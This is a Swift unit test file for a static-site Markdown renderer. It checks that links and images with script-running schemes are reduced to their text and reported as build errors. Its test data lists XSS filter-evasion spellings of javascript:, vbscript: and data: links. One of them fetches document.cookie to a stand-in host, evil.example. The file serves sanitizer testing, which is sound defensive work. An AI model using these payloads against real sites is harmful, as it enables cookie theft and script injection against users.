import XCTest
@testable import SiteKit

/// Links and images whose scheme can run script or stand in for a page, however they are spelled: shown as their
/// words, and in a communicator's page an error at its file and line.
final class LinkSchemeTests: XCTestCase {
    private func html(_ markdown: String) -> String {
        MarkdownRenderer.render(markdown, allowHTML: false) { _ in nil }
    }

    /// Each is a link a browser would follow to run script, as Markdown spells it.
    static let tricks = [
        "[the full text](javascript:fetch('//evil.example/'+document.cookie))",
        "[the full text](JaVaScRiPt:alert(1))",
        "[the full text](vbscript:msgbox(1))",
        "[the full text](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[the full text](jav&#x61;script:alert(1))",
        "[the full text](&#106;avascript:alert(1))",
        "[the full text](javascript&colon;alert(1))",
        "[the full text](javascript&#58;alert(1))",
        "[the full text](java&#x09;script:alert(1))",
        "[the full text](java&#x0A;script:alert(1))",
        "[the full text](&#x20;javascript:alert(1))",
        "[the full text](<java\tscript:alert(1)>)",
        "[the full text](< javascript:alert(1)>)",
        "[the full text][ref]\n\n[ref]: javascript:alert(1)",
        "<javascript:alert(1)>",
    ]

    func testEverySpellingOfAScriptLinkShowsOnlyItsWords() {
        for markdown in Self.tricks {
            let output = html(markdown)
            XCTAssertNotContains(output, "href")
            XCTAssertTrue(output.contains("the full text") || markdown.hasPrefix("<"), "\(markdown) lost its words: \(output)")
        }
    }

    func testAnImageOfARefusedSchemeBecomesItsTextAlternative() {
        for destination in ["javascript:alert(1)", "data:image/svg+xml;base64,PHN2Zy8+", "vbscript:x", "jav&#x61;script:x"] {
            let output = html("![A map of the ward](\(destination))")
            XCTAssertNotContains(output, "<img")
            XCTAssertContains(output, "<p>A map of the ward</p>")
        }
    }

    func testRefusedLinksInsideEachOtherAreAllUndone() {
        // An image's description may hold a link: the inner one must be undone before the outer one frees it.
        let output = html("[![logo *here*](javascript:a)](javascript:b) and ![a [b](javascript:c) d](data:x)")
        XCTAssertNotContains(output, "href")
        XCTAssertNotContains(output, "<img")
        XCTAssertContains(output, "logo here and a b d")
    }

    func testWebMailPhoneAndSitePathsStayLinks() {
        for destination in ["https://example.org/a?b#c", "HTTP://example.org", "mailto:team@example.org", "tel:+33123456789",
                            "#rules", "/en/budget/", "../budget/", "//cdn.example.org/x", "a/b:c", "?page=2"] {
            XCTAssertNil(LinkScheme.refused(destination), destination)
            XCTAssertContains(html("[here](\(destination))"), "<a href=\"")
        }
    }

    func testACommunicatorsScriptLinkIsAnErrorAtItsFileAndLine() throws {
        let site = try SiteFixture(SiteFixture.site + """

        -- content/about.en.md --
        ---
        title: About
        ---
        Intro.

        Read [the rules](javascript:alert(1)).

        ![A map](data:image/png;base64,iVBORw0KGgo=)

        [Old page](VBScript:msgbox(1)) and [a trick](jav&#x61;script:alert(1))
        """)
        defer { site.remove() }
        let errors = site.failingBuild().filter { $0.file.hasSuffix("about.en.md") }
        XCTAssertEqual(errors.map(\.line), [6, 8, 10, 10], "\(errors)")
        guard errors.count == 4 else { return }
        XCTAssertEqual(Set(errors.map(\.severity)), [.error])
        XCTAssertContains(errors[0].message, "link `javascript:alert(1)` uses the scheme `javascript:`")
        XCTAssertContains(errors[1].message, "image `data:image/png;base64,iVBORw0KGgo=` uses the scheme `data:`")
        XCTAssertContains(errors[2].message, "link `VBScript:msgbox(1)` uses the scheme `vbscript:`")
        XCTAssertContains(errors[3].message, "link `javascript:alert(1)` uses the scheme `javascript:`")
        XCTAssertContains(errors[0].hint ?? "", "https://")
    }

    func testAnInvisibleCharacterIsSpelledOutInTheError() {
        XCTAssertEqual(LinkResolver.shown("java\tscript:x"), "java\\tscript:x")
        XCTAssertEqual(LinkResolver.shown("data:" + String(repeating: "A", count: 500)).count, 81)
    }
}
